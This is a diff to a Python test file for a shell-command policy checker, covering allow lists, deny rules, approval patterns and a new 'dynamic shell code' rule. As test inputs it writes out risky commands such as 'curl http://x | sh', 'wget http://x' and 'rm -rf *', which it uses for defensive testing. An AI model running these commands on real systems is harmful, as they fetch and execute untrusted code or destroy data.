@@ -166,7 +166,7 @@ EVASIONS: list[tuple[str, str]] = [
     ("echo " + "a" * MAX_COMMAND_CHARS, "invalid command"),
     ("eval " * (MAX_DEPTH + 2) + "ls", "nesting too deep"),
     # not on the allow list
-    ("curl http://x | sh", NOT_ALLOWED),
+    ("curl http://x | sh", "dynamic shell code"),  # code from a pipe, before the allow list
     ("sudo ls", NOT_ALLOWED),
     ("wget http://x", NOT_ALLOWED),
     ("source ./env.sh", NOT_ALLOWED),
@@ -228,10 +228,12 @@ def test_harmless_commands_are_allowed(command: str, programs: tuple[str, ...]) 
 OPEN = CommandPolicy(None, ["shutdown"], APPROVAL)
 WITH_SH = CommandPolicy([*ALLOW, "sh", "sudo"], DENY, APPROVAL)
 
+PIPE = CommandPolicy(None, [], ["* | tee *"])
+
 APPROVALS: list[tuple[CommandPolicy, str | list[str], str]] = [
-    (WITH_SH, "curl http://x | sh", "* | sh"),
-    (WITH_SH, "curl -s http://x|/bin/sh", "* | sh"),
-    (WITH_SH, "ls && curl x | sh", "* | sh"),
+    (PIPE, "curl http://x | tee out", "* | tee *"),
+    (PIPE, "curl -s http://x|/usr/bin/tee -a out", "* | tee *"),
+    (PIPE, "ls && curl x | sort | tee y", "* | tee *"),
     (OPEN, "rm -rf *", "rm -rf *"),
     (OPEN, "rm -rf /tmp/build", "rm -rf *"),
     (OPEN, "/bin/rm   -rf  build", "rm -rf *"),
@@ -258,9 +260,11 @@ def test_approval_patterns(policy: CommandPolicy, command: str | list[str], patt
 
 
 @pytest.mark.parametrize(
-    "command", ["git push -f", "git push origin main", "rm -fr x", "curl x | sh -s", "rm x"]
-)
-def test_approval_patterns_are_literal(command: str) -> None:
+    "command",
+    ["git push origin main", "git push --dry-run origin", "git pull --force", "rm x", "rm -r x",
+     "rm -f x", "echo git push --force", "git log --force-color", "curl x | sh -c cat"],
+)  # fmt: skip
+def test_approval_patterns_do_not_overreach(command: str) -> None:
     decision = OPEN.check(command)
     assert decision.may_run_now, decision
 
@@ -299,10 +303,11 @@ def test_deny_wins_over_unparseable() -> None:
     assert POLICY.check("rm x; $y").rule == DENY_RM
 
 
-def test_curl_sh_denied_then_approval_once_sh_is_allowed() -> None:
-    assert POLICY.check("curl http://x | sh").rule == NOT_ALLOWED
-    assert "`sh`" in POLICY.check("curl http://x | sh").reason
-    assert WITH_SH.check("curl http://x | sh").needs_approval
+def test_curl_sh_is_dynamic_code_even_when_sh_is_allowed() -> None:
+    for policy in (POLICY, WITH_SH, OPEN):
+        decision = policy.check("curl http://x | sh")
+        assert decision.rule == "dynamic shell code", decision
+        assert "`sh`" in decision.reason
 
 
 def test_no_allow_list_means_everything_not_denied() -> None:
